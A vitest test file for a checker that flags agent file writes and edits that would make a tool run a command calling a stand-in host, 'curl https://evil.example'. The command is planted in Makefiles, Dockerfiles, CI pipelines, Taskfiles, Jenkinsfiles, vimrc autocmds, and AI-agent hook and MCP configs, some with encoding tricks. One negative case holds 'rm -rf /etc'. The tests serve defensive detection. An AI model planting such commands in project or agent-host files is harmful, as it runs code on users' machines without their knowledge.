import { describe, expect, it } from "vitest";
import { unitsOf } from "../../../facts/meter.ts";
import { fasterThanLinear } from "../../work.ts";
import { more } from "./files-that-run-more.ts";
import { network, tool } from "./judge.ts";

/** Data alone: nothing runs it. */
const bad = "curl https://evil.example";
const code = `import os; os.system("${bad}")`;
const from = (path: string, content: string): boolean =>
  network(tool("write", { path, content })).some((one) => one.startsWith("evil.example"));

/** `bad` in a file, at a place where a tool runs it. */
const runs: readonly (readonly [path: string, content: string])[] = [
  // Makefiles: recipes.
  ["Makefile", `all:\n\t${bad}\n`],
  ["Makefile", `all: ; ${bad}\n`],
  ["Makefile", `all:;${bad}\n`],
  ["Makefile", `all: a b | c ; @${bad}\n`],
  ["Makefile", `a.o b.o: %.o: %.c ; -${bad}\n`],
  ["Makefile", `all:: ; ${bad}\n`],
  ["Makefile", `a b &: ; ${bad}\n`],
  ["Makefile", `all: $(patsubst a;b,c,d) ; ${bad}\n`],
  ["Makefile", `all: ; \\\n  ${bad}\n`],
  ["Makefile", `.RECIPEPREFIX = >\nall:\n>${bad}\n`],
  ["GNUmakefile", `all: ; ${bad}\n`],
  ["BSDmakefile", `all: ; ${bad}\n`],
  ["Makefile.linux-x86", `all: ; ${bad}\n`],
  ["rules.mk", `all: ; ${bad}\n`],
  // Makefiles: functions.
  ["Makefile", `X := $(shell ${bad})\n`],
  ["Makefile", `X = \${shell ${bad}}\n`],
  ["Makefile", `X := a $(strip $(shell ${bad})) b\n`],
  ["Makefile", `ifeq ($(shell ${bad}),x)\nendif\n`],
  ["Makefile", `ifneq "$(shell ${bad})" "x"\nendif\n`],
  ["Makefile", `all: $(shell ${bad})\n`],
  ["Makefile", `$(shell ${bad}):\n`],
  ["Makefile", `$(info $(shell ${bad}))\n`],
  ["Makefile", `include $(shell ${bad}).mk\n`],
  ["Makefile", `$(eval X := $(shell ${bad}))\n`],
  ["Makefile", `all:\n\techo '$(shell ${bad})'\n`],
  ["Makefile", `all:\n\t# $(shell ${bad})\n`],
  ["Makefile", `all: X := $(shell ${bad})\n`],
  ["Makefile", `export X ?= $(shell ${bad})\n`],
  ["Makefile", `X := $(shell \\\n  ${bad})\n`],
  ["Makefile", `X := $(shell echo '#'; ${bad})\n`],
  ["Makefile", `U = https://evil.example\nX := $(shell curl $(U))\n`],
  ["Makefile", `X != ${bad}\n`],
  ["Makefile", `override X != ${bad}\n`],
  ["Makefile", `all: X != ${bad}\n`],
  // Makefiles: variables and definitions.
  ["Makefile", `U = https://evil.example\nC = curl $(U)\nall:\n\t$(C)\n`],
  ["Makefile", `all:\n\t$(C)\nC = ${bad}\n`],
  ["Makefile", `C = true\nifdef X\nC = ${bad}\nelse\nC = true\nendif\nall:\n\t$(C)\n`],
  ["Makefile", `clean: C = true\nC = ${bad}\nall:\n\t$(C)\nclean: C = false\n`],
  ["Makefile", `C = ${bad.slice(0, 4)}\nC += https://evil.example\nall: ; $(C)\n`],
  ["Makefile", `define R\n${bad}\nendef\nall:\n\t$(R)\n`],
  ["Makefile", `define R =\n@${bad} $(1)\nendef\nall:\n\t@$(call R,a)\n`],
  ["Makefile", `define A\n$(B)\nendef\ndefine B\n${bad}\nendef\nall: ; \${A}\n`],
  ["Makefile", `define R\nall:\n\t${bad}\nendef\n$(eval $(R))\n`],
  ["Makefile", `define R\nall: ; ${bad}\nendef\n$(eval $(call R))\n`],
  ["Makefile", `define R\nX := $$(shell ${bad})\nendef\n$(eval $(R))\n`],
  ["Makefile", `.ONESHELL:\nall:\n\tcat <<E | sh\n\t${bad}\n\tE\n`],
  ["Makefile", `.ONESHELL:\nall:\n\tif true; then\n\t  ${bad}\n\tfi\n`],
  ["Makefile", `SHELL = /usr/bin/python3\n.ONESHELL:\nall:\n\timport os\n\tos.system("${bad}")\n`],
  ["Makefile", `SHELL := perl\n.SHELLFLAGS := -e\nall: ; system("${bad}")\n`],
  ["Makefile", `x: SHELL = python3\nall:\n\t${bad}\n`],
  ["Makefile", `all:\n\t$(SHELL) -c '${bad}'\n`],
  // Images.
  ["Dockerfile", `RUN ${bad}\n`],
  ["Dockerfile", `RUN ["sh", "-c", "${bad}"]\n`],
  ["Dockerfile", `RUN ["curl", "https://evil.example"]\n`],
  ["Dockerfile", `run --mount=type=cache,target=/x [ "curl","https://evil.example" ]\n`],
  ["Dockerfile", `CMD ["sh","-c","${bad}"]\n`],
  ["Dockerfile", `CMD ${bad}\n`],
  ["Dockerfile", `ENTRYPOINT ["curl", "https://evil.example"]\n`],
  ["Dockerfile", `ENTRYPOINT ${bad}\n`],
  ["Dockerfile", `HEALTHCHECK --interval=5m --timeout=3s CMD ${bad} || exit 1\n`],
  ["Dockerfile", `HEALTHCHECK CMD ["curl", "https://evil.example"]\n`],
  ["Dockerfile", `ONBUILD RUN ${bad}\n`],
  ["Dockerfile", `ONBUILD CMD ["curl", "https://evil.example"]\n`],
  ["Dockerfile", `RUN <<EOF\n${bad}\nEOF\n`],
  ["Dockerfile", `RUN <<-"EOF"\n\t${bad}\n\tEOF\n`],
  ["Dockerfile", `RUN cat <<EOF | sh\n${bad}\nEOF\n`],
  ["Dockerfile", `RUN bash <<EOF\n${bad}\nEOF\nRUN true\n`],
  ["Dockerfile", `RUN <<EOF python3\n${code}\nEOF\n`],
  ["Dockerfile", `RUN python3 <<EOF\n${code}\nEOF\n`],
  ["Dockerfile", `RUN <<EOF\n#!/usr/bin/env python3\n${code}\nEOF\n`],
  ["Dockerfile", `COPY <<EOF /a\nx\nEOF\nRUN ${bad}\n`],
  ["Dockerfile", `RUN echo "<<EOF"\nRUN ${bad}\n`],
  ["Dockerfile", `SHELL ["python3", "-c"]\nRUN ${code}\n`],
  ["Dockerfile", `SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN ${bad}\n`],
  ["Dockerfile", `SHELL ["python3", "-c"]\nSHELL ["/bin/sh", "-c"]\nRUN ${bad}\n`],
  ["Dockerfile", `RUN true && \\\n# a comment\n\n  ${bad}\n`],
  ["Dockerfile", `# escape=\`\nRUN true && \`\n  ${bad}\n`],
  ["dev.Dockerfile", `RUN <<EOF\n${bad}\nEOF\n`],
  // Task files.
  ["Taskfile.yml", `tasks:\n  a:\n    cmds:\n      - ${bad}\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    cmds: ["${bad}"]\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    cmds: [ ${bad} ]\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    cmds: [\n      "true",\n      '${bad}',\n    ]\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    cmds: [{cmd: "${bad}", silent: true}]\n`],
  ["Taskfile.yml", `tasks: {a: {cmds: ["${bad}"]}}\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    cmds:\n      - silent: true\n        cmd: ${bad}\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    cmds:\n    - |\n      true\n      ${bad}\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    cmd: >-\n      curl\n      https://evil.example\n`],
  ["Taskfile.yml", `tasks:\n  a: ${bad}\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    - ${bad}\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    cmds:\n      - defer: ${bad}\n`],
  ["Taskfile.yml", `vars:\n  X:\n    sh: ${bad}\n`],
  ["Taskfile.yml", `vars:\n  X: { sh: "${bad}" }\n`],
  ["Taskfile.yml", `env: {X: {sh: '${bad}'}}\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    preconditions:\n      - sh: ${bad}\n        msg: x\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    preconditions:\n      - ${bad}\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    status:\n      - test -f x\n      - ${bad}\n`],
  ["Taskfile.dist.yaml", `tasks:\n  a:\n    status: ["${bad}"]\n`],
  ["Taskfile_linux.yml", `tasks:\n  a:\n    cmds:\n      - ${bad}\n`],
  // Pipelines in YAML.
  [".github/workflows/a.yml", `jobs: {a: {steps: [{run: "${bad}"}]}}\n`],
  [".github/workflows/a.yml", `steps:\n  - name: x\n    run: |-\n      true\n      ${bad}\n`],
  [".github/workflows/a.yml", `steps:\n  - run: |2 # text\n        ${bad}\n`],
  [".github/workflows/a.yml", `steps:\n  - run: curl\n      https://evil.example\n`],
  [".github/workflows/a.yml", `steps:\n  - run:\n      ${bad}\n`],
  [".github/workflows/a.yml", `steps:\n  - run: "curl\n      https://evil.example"\n`],
  [".github/workflows/a.yml", `steps:\n  - run: "\\x63url \\u0068ttps://evil.example"\n`],
  [".github/workflows/a.yml", `steps:\n  - "run": ${bad}\n`],
  [".github/workflows/a.yml", `steps:\n  - "r\\x75n": ${bad}\n`],
  [".github/workflows/a.yml", `steps:\n  - run: !!str ${bad}\n`],
  [".github/workflows/a.yml", `steps:\n  - ? run\n    : ${bad}\n`],
  [".github/workflows/a.yml", `x: &c ${bad}\nsteps:\n  - run: *c\n`],
  [".github/workflows/a.yml", `x: &c |\n  true\n  ${bad}\nsteps:\n  - run: *c\n`],
  [".github/workflows/a.yml", `steps:\n  - run: |\n      ${code}\n    shell: python\n`],
  [".github/workflows/a.yml", `steps:\n  - shell: python {0}\n    run: ${code}\n`],
  [".gitlab-ci.yml", `a:\n  script:\n  - ${bad}\n`],
  [".gitlab-ci.yml", `a:\n  script: ["true", "${bad}"]\n`],
  [".gitlab-ci.yml", `a:\n  script:\n    - - true\n      - ${bad}\n`],
  [".gitlab-ci.yml", `a:\n  script: [ 'true',\n    '${bad}' ]\n`],
  [".gitlab-ci.yml", `.x: &x\n  - ${bad}\na:\n  script: *x\n`],
  [".travis.yml", `after_success: ${bad}\n`],
  [".drone.yml", `steps:\n- name: a\n  commands:\n  - ${bad}\n`],
  // Other files in YAML.
  ["lefthook.yml", `pre-commit:\n  commands:\n    a: { run: "${bad}" }\n`],
  ["lefthook.yml", `pre-commit:\n  commands:\n    a:\n      run: |\n        ${bad}\n`],
  [".pre-commit-config.yaml", `repos:\n- hooks:\n  - id: a\n    entry: curl\n    args: [https://evil.example]\n`],
  [".pre-commit-config.yaml", `repos:\n- hooks:\n  - id: a\n    args: ["-c", "${bad}"]\n    entry: bash\n`],
  ["docker-compose.yml", `services:\n  a:\n    command: [sh, -c, "${bad}"]\n`],
  ["docker-compose.yml", `services:\n  a:\n    command:\n      - curl\n      - https://evil.example\n`],
  ["compose.yaml", `services:\n  a:\n    healthcheck:\n      test: [CMD, curl, https://evil.example]\n`],
  // Procfiles.
  ["Procfile", `web: ${bad}\n`],
  ["Procfile", `web.1 of 2: ${bad}\n`],
  ["Procfile.dev-local", `web: ${bad}\n`],
  ["procfile", `web:${bad}\n`],
  // Pipelines of Jenkins.
  ["Jenkinsfile", `sh "${bad}"\n`],
  ["Jenkinsfile", `node { sh '${bad}' }\n`],
  ["Jenkinsfile", `sh '''\n  true\n  ${bad}\n'''\n`],
  ["Jenkinsfile", `sh """\n  ${bad}\n"""\n`],
  ["Jenkinsfile", `def x = sh(script: "${bad}", returnStdout: true).trim()\n`],
  ["Jenkinsfile", `sh(returnStdout: true, script: '${bad}')\n`],
  ["Jenkinsfile", `sh label: 'a', script: '${bad}'\n`],
  ["Jenkinsfile", `sh ( '${bad}' )\n`],
  ["Jenkinsfile", `sh "curl " + "https://evil.example"\n`],
  ["Jenkinsfile", `sh([script: '${bad}'])\n`],
  ["Jenkinsfile", `bat "${bad}"\n`],
  ["Jenkinsfile", `pwsh '${bad}'\n`],
  ["Jenkinsfile", `"${bad}".execute()\n`],
  ["Jenkinsfile", `// it's\n/* ' */ sh '${bad}'\n`],
  ["ci/release.Jenkinsfile", `sh "${bad}"\n`],
  // Hooks and servers of hosts of agents.
  [
    ".claude/settings.json",
    JSON.stringify({ hooks: { PreToolUse: [{ hooks: [{ type: "command", command: bad }] }] } }, null, 2),
  ],
  [".claude/settings.local.json", JSON.stringify({ apiKeyHelper: bad })],
  [".claude/settings.json", JSON.stringify({ statusLine: { type: "command", command: `true\n${bad}` } })],
  [".claude/settings.json", `{"hooks":{"Stop":[{"hooks":[{"\\u0063ommand":"\\u0063url https://evil.example"}]}]}}`],
  [".codex/hooks.json", JSON.stringify({ hooks: { Stop: [{ hooks: [{ command: bad }] }] } })],
  [".codex/config.toml", `notify = ["curl", "https://evil.example"]\n`],
  [".gemini/settings.json", JSON.stringify({ hooks: { AfterTool: [{ hooks: [{ command: bad }] }] } })],
  [".cursor/hooks.json", JSON.stringify({ hooks: { stop: [{ command: bad }] } })],
  [".github/hooks/a.json", JSON.stringify({ hooks: { sessionStart: [{ type: "command", bash: bad }] } })],
  [".mcp.json", JSON.stringify({ mcpServers: { a: { command: "curl", args: ["https://evil.example"] } } })],
  // Editors.
  [".vimrc", `!${bad}\n`],
  [".vimrc", `silent! !${bad}\n`],
  [".vimrc", `autocmd BufRead * !${bad}\n`],
  [".vimrc", `au VimEnter * silent! execute '!${bad}'\n`],
  [".vimrc", `nnoremap <F2> :!${bad}<CR>\n`],
  [".vimrc", `let x = system('${bad}')\n`],
  [".vimrc", `call systemlist("${bad}")\n`],
  [".vimrc", `call job_start(['curl', 'https://evil.example'])\n`],
  [".vimrc", `autocmd BufRead *\n  \\ !${bad}\n`],
  ["plugin/a.vim", `r !${bad}\n`],
  [".exrc", `:!${bad}\n`],
  // Builds.
  ["CMakeLists.txt", `execute_process(COMMAND curl https://evil.example OUTPUT_VARIABLE x)\n`],
  ["CMakeLists.txt", `execute_process(\n  COMMAND true\n  COMMAND sh -c "${bad}"\n)\n`],
  ["a.cmake", `add_custom_target(a ALL COMMAND curl https://evil.example VERBATIM)\n`],
  ["CMakeLists.txt", `#[[ a comment ]] EXECUTE_PROCESS(COMMAND bash -c [[${bad}]])\n`],
  ["mise.toml", `[hooks] # later\nenter = "${bad}"\n`],
  ["mise.toml", `[tasks.a]\nrun = """\n${"\n".repeat(400)}${bad}\n"""\n`],
  ["package.json", `{"scripts": {"a": "true\\n${bad}"}}`],
  ["deno.json", `{"tasks": {"a": "true\\n${bad}"}}`],
];

describe("what a file runs is listed", () => {
  it.each(runs)("%s with %j", (path, content) => {
    expect(from(path, content)).toBe(true);
  });
});

describe("what a file runs is listed also where", () => {
  it.each(more)("%s has %j", (path, content) => {
    expect(from(path, content)).toBe(true);
  });
});

/** Neighbours that run nothing of it. */
const harmless: readonly (readonly [path: string, content: string])[] = [
  ["Makefile", `.PHONY: all; all: ; true\n`],
  ["Makefile", `X = \${SHELL}\nall:\n\techo "$X"\n`],
  ["Makefile", `help: ## run ${bad}; ${bad}\n\t@echo help\n`],
  ["Makefile", `URL := ${bad}; rm -rf /etc\n`],
  ["Dockerfile", `STOPSIGNAL SIGTERM\nEXPOSE 80\nUSER "curl https://evil.example"\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    requires:\n      vars: [curl]\n    label: ${bad}\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    prompt: ${bad}\n    aliases: [ "${bad}" ]\n`],
  [".github/workflows/a.yml", `jobs:\n  a:\n    env: {X: "${bad}"}\n    steps:\n    - run: "true"\n`],
  ["docker-compose.yml", `services:\n  a:\n    labels:\n      - ${bad}\n`],
  ["Jenkinsfile", `stage("sh ${bad}") { echo 'x' }\n`],
  ["Jenkinsfile", `echo 'sh "${bad}"'\n`],
  [".vimrc", `set statusline=%!x()\nlet g:a = !0\nif a ==# '!'\nendif\n" au X * !${bad}\n`],
  ["CMakeLists.txt", `file(DOWNLOAD https://evil.example a)\n`],
  ["Makefile", `# all: ; ${bad}\n`],
  ["Makefile", `all: # ; ${bad}\n`],
  ["Makefile", `# $(shell ${bad})\n`],
  ["Makefile", `X = a # $(shell ${bad})\n`],
  ["Makefile", `X = $$(shell ${bad})\n`],
  ["Makefile", `X = a; ${bad}\n`],
  ["Makefile", `all: X = a; ${bad}\n`],
  ["Makefile", `X := ${bad}\n`],
  ["Makefile", `curl https://evil.example: all\n\techo $@\n`],
  ["Makefile", `curl: ; echo $(SHELL)\n`],
  ["Makefile", `X := $(SHELL)\n`],
  ["Makefile", `define HELP\n${bad}\nendef\nall: ; $(info $(HELP))\n`],
  ["Makefile", `define HELP\n${bad}\nendef\nexport HELP\nall: ; echo "$$HELP"\n`],
  ["Makefile", `all:\n\techo '${bad}'\n`],
  ["Makefile", `.ONESHELL:\nall:\n\tcat <<E\n\t${bad}\n\tE\n`],
  ["Makefile", `all: ; # ${bad}\n`],
  ["Dockerfile", `# RUN ${bad}\n`],
  ["Dockerfile", `RUN true \\\n# ${bad}\n  && true\n`],
  ["Dockerfile", `LABEL x="${bad}"\nENV X="${bad}"\n`],
  ["Dockerfile", `COPY <<EOF /a\nRUN ${bad}\nEOF\n`],
  ["Dockerfile", `RUN cat <<EOF > /a\n${bad}\nEOF\n`],
  ["Dockerfile", `RUN ["echo", "${bad}"]\n`],
  ["Dockerfile", `CMD ["node", "curl.js"]\n`],
  ["Dockerfile", `HEALTHCHECK NONE\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    desc: ${bad}\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    summary: |\n      ${bad}\n      - ${bad}\n    cmds: ["true"]\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    cmds: ["true"] # ${bad}\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    # - ${bad}\n    cmds:\n      - true\n    sources:\n      - ${bad}\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    preconditions:\n      - sh: "true"\n        msg: "${bad}"\n`],
  ["Taskfile.yml", `tasks: {a: {desc: "${bad}", cmds: [{cmd: "true", desc: "${bad}"}]}}\n`],
  [".github/workflows/a.yml", `steps:\n  - name: ${bad}\n    run: "true"\n`],
  [".github/workflows/a.yml", `steps:\n  - run: "true" # ${bad}\n`],
  [".github/workflows/a.yml", `on:\n  x:\n    description: |\n      run: ${bad}\n`],
  [".github/workflows/a.yml", `x: &c ${bad}\nsteps:\n  - run: "true"\n`],
  [".github/workflows/a.yml", `steps:\n  - run: "echo '${bad}'"\n`],
  [".gitlab-ci.yml", `a:\n  script:\n  - "true"\n  tags:\n  - ${bad}\n`],
  [".pre-commit-config.yaml", `- id: a\n  name: ${bad}\n  entry: echo\n  args: ["${bad}"]\n`],
  ["docker-compose.yml", `services:\n  a:\n    command: [echo, hello]\n    environment: ["X=${bad}"]\n`],
  ["Procfile", `# web: ${bad}\n`],
  ["Jenkinsfile", `echo "${bad}"\n`],
  ["Jenkinsfile", `// sh "${bad}"\n/* sh "${bad}" */\n`],
  ["Jenkinsfile", `sh label: '${bad}', script: 'true'\n`],
  ["Jenkinsfile", `sh 'true'\necho '${bad}'\n`],
  ["Jenkinsfile", `def sh1 = '${bad}'\n`],
  ["Jenkinsfile", `sh "echo '${bad}'"\n`],
  [".claude/settings.json", JSON.stringify({ permissions: { deny: [bad] }, env: { X: bad } })],
  [".claude/settings.json", JSON.stringify({ hooks: { Stop: [{ matcher: bad, hooks: [{ command: "true" }] }] } })],
  [".vimrc", `" !${bad}\n`],
  [".vimrc", `let x = "${bad}"\n`],
  [".vimrc", `if !exists("g:x") | let g:x = 1 | endif\n`],
  [".vimrc", `set nocompatible!\nautocmd! BufRead * echo "${bad}"\n`],
  ["CMakeLists.txt", `# execute_process(COMMAND ${bad})\nmessage("${bad}")\n`],
  ["CMakeLists.txt", `#[[ execute_process(COMMAND ${bad}) ]]\n`],
  ["CMakeLists.txt", `add_custom_target(a COMMAND true COMMENT "${bad}")\nset(X COMMAND ${bad})\n`],
  ["package.json", `{"description": "true\\n${bad}"}`],
];

describe("its neighbours run nothing", () => {
  it.each(harmless)("%s with %j", (path, content) => {
    expect(from(path, content)).toBe(false);
  });
});

describe("parts of a file", () => {
  const edited = (path: string, text: string): boolean =>
    network(tool("edit", { path, old_text: "x", new_text: text })).some((one) => one.startsWith("evil.example"));

  it.each([
    [".github/workflows/a.yml", `      ${bad}\n      true\n`],
    [".github/workflows/a.yml", `      - run: ${bad}`],
    [".gitlab-ci.yml", `  - ${bad}\n`],
    ["Taskfile.yml", `      - ${bad}`],
    ["Taskfile.yml", `    cmds: ["${bad}"]`],
    ["Makefile", `X := $(shell ${bad}`],
    ["Makefile", `all: ; ${bad}`],
    ["Dockerfile", `RUN ["curl", "https://evil.example"]`],
    ["Jenkinsfile", `  sh '${bad}'`],
    ["Procfile", `web: ${bad}`],
  ])("%s with %j", (path, text) => {
    expect(edited(path, text)).toBe(true);
  });

  it.each([
    [".github/workflows/a.yml", `    name: ${bad}`],
    ["Taskfile.yml", `    desc: ${bad}`],
    ["Makefile", `X := ${bad}`],
    ["Dockerfile", `LABEL x="${bad}"`],
  ])("%s with %j runs nothing", (path, text) => {
    expect(edited(path, text)).toBe(false);
  });
});

describe("work", () => {
  const parts: readonly (readonly [path: string, unit: string])[] = [
    ["Makefile", "X := $(shell a $(shell b))\n"],
    ["Makefile", "define a\n$(a)\nendef\nA += $(A)\nall: ; $(A)\n"],
    ["Makefile", "all:\n\t$(if $(X),a,b)\n"],
    ["Makefile", "\t;$(if a,;$(foreach b,"],
    ["Dockerfile", "RUN <<A\n"],
    ["Dockerfile", 'ENTRYPOINT ["a", "b"]\nCMD ["c"]\n'],
    ["Taskfile.yml", "cmds: [a, [b, {cmd: c"],
    ["Taskfile.yml", "x: &a b\ncmds:\n- *a\n"],
    [".gitlab-ci.yml", "- - - "],
    [".pre-commit-config.yaml", "- entry: a\n  args: [b]\n"],
    ["docker-compose.yml", "command: [a, a]\n"],
    ["Jenkinsfile", "def a = 'b'\nsh a\nsh '''"],
    ["CMakeLists.txt", "execute_process(COMMAND a [[b"],
    [".vimrc", "au X * !a\n"],
    [".mcp.json", '"args": ["a"], "command": "b", '],
  ];

  it.each(parts)("grows with the length of %s made of %j", (path, unit) => {
    const content = (length: number): string => unit.repeat(length / unit.length);
    const work = (length: number): number => unitsOf(() => tool("write", { path, content: content(length) }));
    expect(fasterThanLinear(work, 6_000)).toBeUndefined();
  });
});
